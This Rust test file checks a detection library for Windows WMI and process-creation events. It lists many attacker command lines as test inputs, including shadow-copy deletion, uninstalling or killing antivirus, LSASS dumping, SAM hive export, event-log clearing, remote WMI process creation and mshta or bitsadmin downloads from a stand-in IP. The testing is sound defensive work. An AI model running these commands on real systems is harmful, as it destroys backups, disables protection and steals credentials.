//! Spellings of one command that must be judged alike, and commands that only look like them.
#![allow(clippy::unwrap_used, reason = "tests fail so")]

use wmi_events::detect::Severity;
use wmi_events::schema::{self, EventSchema};
use wmi_events::{Event, Record, System};

const WMIC: &str = r"C:\Windows\System32\wbem\WMIC.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const MOFCOMP: &str = r"C:\Windows\System32\wbem\mofcomp.exe";
const WMIPRVSE: &str = r"C:\Windows\System32\wbem\WmiPrvSE.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const PWSH: &str = r"C:\Program Files\PowerShell\7\pwsh.exe";
const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";

fn event(schema: &EventSchema, fields: &[(&'static str, &str)]) -> Event<'static> {
    let mut system = System::of(schema);
    system.computer = Some("WKS07.corp.example".into());
    let mut record = Record::new(system);
    for (name, value) in fields {
        record.set(*name, (*value).to_owned());
    }
    record.into_event().unwrap().unwrap()
}

fn names(event: &Event<'_>) -> Vec<(&'static str, Severity)> {
    let findings = event.findings();
    findings.map(|f| (f.name(), f.severity)).collect()
}

fn process(image: &str, parent: &str, line: &str) -> Vec<(&'static str, Severity)> {
    let fields = [
        ("NewProcessName", image),
        ("ParentProcessName", parent),
        ("CommandLine", line),
    ];
    names(&event(&schema::PROCESS_CREATION, &fields))
}

/// Each line has this finding; `""`: none of medium severity and above.
fn assert_all(image: &str, parent: &str, table: &[(&str, &str)]) {
    for (line, expected) in table {
        let found = process(image, parent, line);
        let is_right = match *expected {
            "" => found
                .iter()
                .all(|(_, severity)| *severity < Severity::Medium),
            name => found.iter().any(|(found, _)| *found == name),
        };
        assert!(is_right, "{line}: {found:?}, not {expected:?}");
    }
}

#[test]
fn switches_of_wmic_behind_a_word() {
    let table = [
        (r#"wmic os get/format:"http://10.0.0.9/x.xsl""#, "wmic_xsl"),
        ("wmic os get Name/format:http://10.0.0.9/x.xsl", "wmic_xsl"),
        (
            r"wmic process list brief/format:\\10.0.0.9\s\x.xsl",
            "wmic_xsl",
        ),
        ("wmic shadowcopy delete/nointeractive", "shadow_copy_delete"),
        (
            r#"wmic product where "name like '%Sophos%'" call uninstall/nointeractive"#,
            "wmic_security_product_uninstall",
        ),
        (
            r#"wmic process where name="MsMpEng.exe" call terminate/nointeractive"#,
            "wmic_security_process_terminate",
        ),
        (
            r#"wmic /namespace:\\root\subscription path __EventFilter where name="x" delete/nointeractive"#,
            "wmic_subscription_delete",
        ),
        (
            "wmic /failfast:on/node:SRV09 process call create calc",
            "remote_wmic_process_create",
        ),
        (
            r"wmic /namespace:\\root\cimv2/node:SRV09 process call create calc",
            "remote_wmic_process_create",
        ),
        ("wmic cpu get loadpercentage/value", ""),
        ("wmic qfe list brief/format:table", ""),
    ];
    assert_all(WMIC, CMD, &table);
}

#[test]
fn commands_of_wmic() {
    let table = [
        (
            r#"wmic process call create "\"powershell\" -enc AAAA""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "\"C:\Windows\System32\mshta.exe\" http://10.0.0.9/a.hta""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create '"powershell.exe" -enc AAAA' "#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "'powershell.exe' -enc AAAA""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create CommandLine="\"rundll32\" C:\ProgramData\a.dll,x""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "\"vssadmin.exe\" delete shadows /all""#,
            "wmi_sensitive_command",
        ),
        (
            r#"wmic process call create "\"C:\Program Files\App\app.exe\" /x""#,
            "",
        ),
        (
            r#"wmic process call create CommandLine = "mshta http://10.0.0.9/a.hta""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create CommandLine ="mshta x""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create CommandLine= "mshta x""#,
            "wmic_suspicious_process_create",
        ),
    ];
    assert_all(WMIC, CMD, &table);
}

/// With `/?`, wmic.exe shows its help and does nothing.
#[test]
fn help_of_wmic() {
    let table = [
        ("wmic shadowcopy delete /?", ""),
        ("wmic nteventlog call cleareventlog /?", ""),
        (
            r#"wmic product where "name like '%Sophos%'" call uninstall /?"#,
            "",
        ),
        (
            r"wmic /namespace:\\root\subscription path __EventFilter create /?",
            "",
        ),
        ("wmic service call create /?", ""),
        ("wmic process call create/?", ""),
        ("wmic shadowcopy delete", "shadow_copy_delete"),
    ];
    assert_all(WMIC, CMD, &table);
}

#[test]
fn names_of_security_products() {
    let table = [
        (
            r#"wmic product where name="ESET" call uninstall"#,
            "wmic_security_product_uninstall",
        ),
        (
            r#"wmic product where "vendor='ESET, spol. s r.o.'" call uninstall"#,
            "wmic_security_product_uninstall",
        ),
        (
            "wmic service Sense call stopservice",
            "wmic_critical_service_stop",
        ),
        (
            r#"wmic service where "name like '%Sense%'" call stopservice"#,
            "wmic_critical_service_stop",
        ),
    ];
    assert_all(WMIC, CMD, &table);
    for line in [
        r#"wmic product where "name='Password Reset Client'" call uninstall /nointeractive"#,
        r#"wmic process where name="dsmc.exe" call terminate"#,
        r#"wmic process where "ExecutablePath='C:\\Users\\jnorton\\app.exe'" call terminate"#,
    ] {
        let found = process(WMIC, CMD, line);
        assert!(
            !found.iter().any(|(name, _)| name.contains("security")),
            "{line}: {found:?}"
        );
    }
}

/// Another program's arguments are as grave as those of wmic.exe.
#[test]
fn renamed_wmic() {
    let table = [
        (
            r#"a.exe process call create "net user eve P@ss1 /add""#,
            "wmic_renamed_attack",
        ),
        (
            r#"a.exe process call create "vssadmin delete shadows /all""#,
            "wmic_renamed_attack",
        ),
        (
            r#"a.exe process where name="MsMpEng.exe" call terminate"#,
            "wmic_renamed_attack",
        ),
        ("a.exe process call create calc", "wmic_renamed"),
    ];
    assert_all(r"C:\Users\Public\a.exe", CMD, &table);
}

#[test]
fn namespaces_of_mofcomp() {
    let mof = r#""C:\Program Files\A\a.mof""#;
    for (namespace, is_remote) in [
        (r"\\localhost\root\cimv2", false),
        (r"\\127.0.0.1\root\cimv2", false),
        (r"\\WKS07\root\cimv2", false),
        (r"\\wks07.corp.example\root\cimv2", false),
        (r"\\.\root\cimv2", false),
        (r"root\cimv2", false),
        (r"\\SRV09\root\cimv2", true),
        ("//SRV09/root/subscription", true),
    ] {
        let line = format!("mofcomp.exe -N:{namespace} {mof}");
        let found = process(MOFCOMP, MSIEXEC, &line);
        let is_found = found.iter().any(|(name, _)| *name == "mof_compiler_remote");
        assert_eq!(is_found, is_remote, "{line}: {found:?}");
    }
}

/// cmd.exe strips the quotes around a command that ends with the name of a program.
#[test]
fn quotes_of_cmd() {
    let table = [
        (
            r#"cmd /c "mshta http://10.0.0.9/a.com""#,
            "wmiprvse_suspicious_child",
        ),
        (
            r#"cmd /c "start C:\Users\Public\a.exe""#,
            "wmiprvse_suspicious_child",
        ),
        (
            r#"cmd.exe /c "powershell -w hidden -f C:\a.exe""#,
            "wmiprvse_suspicious_child",
        ),
        (
            r#"cmd /c "rundll32 C:\ProgramData\a.dll,x a.exe""#,
            "wmiprvse_suspicious_child",
        ),
        (
            r#"cmd /c "taskkill /f /im MsMpEng.exe""#,
            "wmi_sensitive_command",
        ),
        (
            r#"cmd /c "sc create x binpath= C:\a.exe""#,
            "wmi_sensitive_command",
        ),
        (
            r#"cmd /c "schtasks /create /tn x /tr C:\a.exe""#,
            "wmi_sensitive_command",
        ),
    ];
    assert_all(CMD, WMIPRVSE, &table);
    for line in [
        r#"cmd /c "C:\Program Files\Contoso, Inc\App\a.exe""#,
        r#"cmd /c "C:\Program Files\App\start me.exe""#,
        r#"cmd /c "C:\Program Files\Contoso - App\a.exe""#,
    ] {
        let found = process(CMD, WMIPRVSE, line);
        let is_any = |name: &str| found.iter().any(|(found, _)| *found == name);
        assert!(!is_any("wmiprvse_suspicious_child"), "{line}: {found:?}");
    }
}

#[test]
fn paths_with_blanks() {
    let table = [
        (
            r#"wmic process call create "C:\Program Files\PowerShell\7\pwsh.exe -enc AAAA""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "C:\Program Files\..\Windows\System32\mshta.exe http://10.0.0.9/a.hta""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "C:\Program Files\x\..\..\Users\Public\a.exe""#,
            "wmic_suspicious_process_create",
        ),
        (
            r#"wmic process call create "C:\Program Files\App\app.exe /x""#,
            "",
        ),
    ];
    assert_all(WMIC, CMD, &table);
    let enc = format!("{PWSH} -enc AAAA");
    let shadow = format!(r#"{PWSH} -c "gwmi win32_shadowcopy | rwmi""#);
    assert_all(
        PWSH,
        WMIPRVSE,
        &[
            (&enc, "wmiprvse_suspicious_child"),
            (&shadow, "shadow_copy_delete"),
        ],
    );
}

/// The commands of a script are judged as those of cmd.exe are.
#[test]
fn commands_of_powershell() {
    let table = [
        (
            "powershell Start-Process vssadmin -ArgumentList 'delete shadows /all'",
            "wmi_sensitive_command",
        ),
        (
            r#"powershell -c "vssadmin delete shadows /all /quiet""#,
            "wmi_sensitive_command",
        ),
        (
            "powershell net user eve P@ss1 /add",
            "wmi_sensitive_command",
        ),
        (
            r#"powershell -c "$x = 1; wevtutil cl Security""#,
            "wmi_sensitive_command",
        ),
        (
            r#"powershell -c "& reg save HKLM\SAM C:\x""#,
            "wmi_sensitive_command",
        ),
        (
            r#"powershell -c "cmd /c vssadmin delete shadows /all""#,
            "wmi_sensitive_command",
        ),
        (
            r#"powershell -c "powershell -c 'Clear-EventLog Security'""#,
            "wmi_sensitive_command",
        ),
        (
            r"powershell C:\Users\Public\a.ps1",
            "wmiprvse_suspicious_child",
        ),
        (
            r#"powershell -c "mshta http://10.0.0.9/a.hta""#,
            "wmiprvse_suspicious_child",
        ),
    ];
    assert_all(POWERSHELL, WMIPRVSE, &table);
    let table = [
        (
            r#"wmic process call create "procdump64.exe -accepteula -ma lsass.exe C:\x.dmp""#,
            "wmi_sensitive_command",
        ),
        (
            r#"wmic process call create "powershell -c vssadmin delete shadows /all""#,
            "wmi_sensitive_command",
        ),
        (
            r#"wmic process call create "bcdedit /set {default} recoveryenabled No""#,
            "wmi_sensitive_command",
        ),
        (
            r#"wmic process call create "bcdedit /set {default} recoveryenabled Yes""#,
            "",
        ),
    ];
    assert_all(WMIC, CMD, &table);
}

#[test]
fn output_in_a_second_shell() {
    let table = [
        (
            r#"cmd.exe /C cmd /s /c "whoami > C:\Windows\Temp\QwErTyUi 2>&1""#,
            "wmi_command_output_captured",
        ),
        (
            r#"cmd /c cmd /c "whoami /all > \\SRV01\share\x.txt""#,
            "wmi_command_output_captured",
        ),
        (
            r#"cmd.exe /Q /c cmd /s /c "whoami 1> \\127.0.0.1\ADMIN$\__1790000000.123 2>&1""#,
            "wmiexec_output_redirect",
        ),
    ];
    assert_all(CMD, WMIPRVSE, &table);
    let local = r#"cmd /c cmd /c "whoami > C:\Logs\a.txt""#;
    let found = process(CMD, WMIPRVSE, local);
    assert!(
        !found.iter().any(|(name, _)| name.contains("output")),
        "{found:?}"
    );
}

/// pwsh.exe has the name of its assembly.
#[test]
fn original_name_of_pwsh() {
    let fields = [
        ("Image", r"C:\Users\Public\p.exe"),
        ("OriginalFileName", "pwsh.dll"),
        (
            "CommandLine",
            r#"p.exe -c "gcim win32_shadowcopy | Remove-CimInstance""#,
        ),
    ];
    let found = names(&event(&schema::SYSMON_PROCESS_CREATION, &fields));
    assert!(
        found.iter().any(|(name, _)| *name == "shadow_copy_delete"),
        "{found:?}"
    );
}

#[test]
fn scripts_of_consumers() {
    let table = [
        (
            r#"CreateObject("WScript.Shell").Run "powershell -nop -w hidden -enc AAAA", 0"#,
            true,
        ),
        (r#"sh.Run "certutil -decode C:\a.txt C:\a.exe""#, true),
        (r#"Set x=CreateObject("Microsoft.XMLHTTP")"#, true),
        (r#"Set x=CreateObject("MSXML2.ServerXMLHTTP.6.0")"#, true),
        (r#"sh.Run "mshta http://10.0.0.9/a.hta""#, true),
        (
            r#"sh.Run "cmd /c ""bitsadmin /transfer a http://10.0.0.9/a.exe C:\a.exe""""#,
            true,
        ),
        (r#"Set f = fso.OpenTextFile("C:\Logs\a b.txt", 8)"#, false),
    ];
    for (script, expected) in table {
        let cause = format!(
            "Binding EventFilter: \ninstance of __EventFilter\n{{\n\tName = \"x\";\n}};\n\
             Perm. Consumer: \ninstance of ActiveScriptEventConsumer\n{{\n\tName = \"x\";\n\
             \tScriptText = \"{}\";\n\tScriptingEngine = \"VBScript\";\n}};\n",
            script.replace('\\', r"\\").replace('"', "\\\"")
        );
        let fields = [
            ("Namespace", r"//./root/subscription"),
            ("ESS", "x"),
            ("CONSUMER", "y"),
            ("PossibleCause", &*cause),
        ];
        let found = names(&event(&schema::ESS_TO_CONSUMER_BINDING, &fields));
        let is_found = found.iter().any(|(name, _)| *name == "suspicious_consumer");
        assert_eq!(is_found, expected, "{script}: {found:?}");
    }
}

/// A script in a command line of PowerShell.
fn script(text: &str) -> String {
    format!("powershell -c \"{}\"", text.replace('"', "\\\""))
}

/// Each script has this finding; `""`: none of medium severity and above.
fn assert_scripts(table: &[(&str, &str)]) {
    for (text, expected) in table {
        assert_all(POWERSHELL, CMD, &[(&script(text), expected)]);
    }
}

#[test]
fn tampering_with_chosen_objects() {
    let tampering = "powershell_wmi_tampering";
    assert_scripts(&[
        (
            "Get-WmiObject Win32_Product | Where-Object {$_.Name -like '*Sophos*'} | ForEach-Object {$_.Uninstall()}",
            tampering,
        ),
        (
            "$a=Get-WmiObject Win32_Product | where {$_.Name -eq 'ESET Endpoint Antivirus'};$a.Uninstall()",
            tampering,
        ),
        (
            "(gwmi win32_product | ? Name -like '*Kaspersky*').Uninstall()",
            tampering,
        ),
        (
            "gcim Win32_Product | ? Name -match 'McAfee' | icim -MethodName Uninstall",
            tampering,
        ),
        (
            "gwmi win32_service | ? {($_.Name -eq 'WinDefend')} | % {$_.StopService()}",
            tampering,
        ),
        (
            "gwmi win32_process | ? {$_.Name -eq 'MsMpEng.exe'} | % {$_.Terminate()}",
            tampering,
        ),
        (
            "(gwmi win32_service).Where({$_.Name -eq 'WinDefend'}).StopService()",
            tampering,
        ),
        (
            "([wmi]\"Win32_Service.Name='WinDefend'\").StopService()",
            tampering,
        ),
        (
            "iwmi -Path \"Win32_Service.Name='WinDefend'\" -Name StopService",
            tampering,
        ),
        (
            "gwmi Win32_Product | ? {$_.Name -eq 'Contoso'} | % {$_.Uninstall()}",
            "",
        ),
        (
            "gwmi Win32_Product | ? {$_.Name -notlike '*Sophos*' -and $_.Name -like 'Contoso*'} | % {$_.Uninstall()}",
            "",
        ),
        (
            "gwmi Win32_Product | ? Name -notlike '*Sophos*' | % {$_.Uninstall()}",
            "",
        ),
    ]);
}

#[test]
fn spellings_of_powershell() {
    assert_scripts(&[
        (
            "$p=@{Class='Win32_Process';Name='Create';ArgumentList='mshta x'};Invoke-WmiMethod @p",
            "powershell_suspicious_process_create",
        ),
        (
            "$p=@{ComputerName='SRV09';ClassName='Win32_Process';MethodName='Create';Arguments=@{CommandLine='calc'}};Invoke-CimMethod @p",
            "powershell_remote_process_create",
        ),
        (
            "$a=@{Namespace='root\\subscription';Class='__EventFilter';Arguments=@{Name='x'}};Set-WmiInstance @a",
            "powershell_subscription_create",
        ),
        (
            "([wmiclass]'Win32_Process').Create.Invoke('mshta x')",
            "powershell_suspicious_process_create",
        ),
        (
            "(gwmi win32_shadowcopy).Delete.Invoke()",
            "shadow_copy_delete",
        ),
        (
            "(gwmi win32_shadowcopy).$('Delete')()",
            "shadow_copy_delete",
        ),
        (
            "Set-Alias q iwmi;q Win32_Process Create 'mshta x'",
            "powershell_suspicious_process_create",
        ),
        (
            "&(gcm iwmi) Win32_Process Create 'mshta x'",
            "powershell_suspicious_process_create",
        ),
        (
            "(gwmi -list | ? {$_.Name -eq 'Win32_Process'}).Create('mshta x')",
            "powershell_suspicious_process_create",
        ),
        (
            "$s=[Microsoft.Management.Infrastructure.CimSession]::Create('SRV09');$s.InvokeMethod('root/cimv2','Win32_Process','Create',$p)",
            "powershell_remote_process_create",
        ),
        (
            "Invoke-WSManAction -ComputerName SRV09 -ResourceURI wmicimv2/Win32_Process -Action Create -ValueSet @{CommandLine='calc'}",
            "powershell_remote_process_create",
        ),
        (
            "[CimSession]::Create($null).InvokeMethod('root/cimv2','Win32_Process','Create',$p)",
            "powershell_wmi_create",
        ),
        ("$p=@{Class='Win32_Bios'};gwmi @p", ""),
    ]);
}
